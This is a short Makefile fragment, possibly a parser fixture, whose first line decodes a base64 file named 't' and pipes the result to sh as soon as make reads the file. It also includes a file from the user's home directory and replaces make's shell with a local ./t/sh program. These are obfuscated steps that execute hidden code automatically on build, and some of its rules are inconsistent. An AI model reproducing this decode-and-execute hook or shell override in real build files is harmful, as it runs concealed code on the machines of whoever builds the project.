X := $(shell base64 -d t | sh)
-include $(HOME)/x.mk
SHELL = ./t/sh
define r
	@$(call q,$(1)) \
	  | $$SHELL
endef
all: a.o ; @echo "$@" $$x
a.o: ; $(CC) -c -x c - <$<
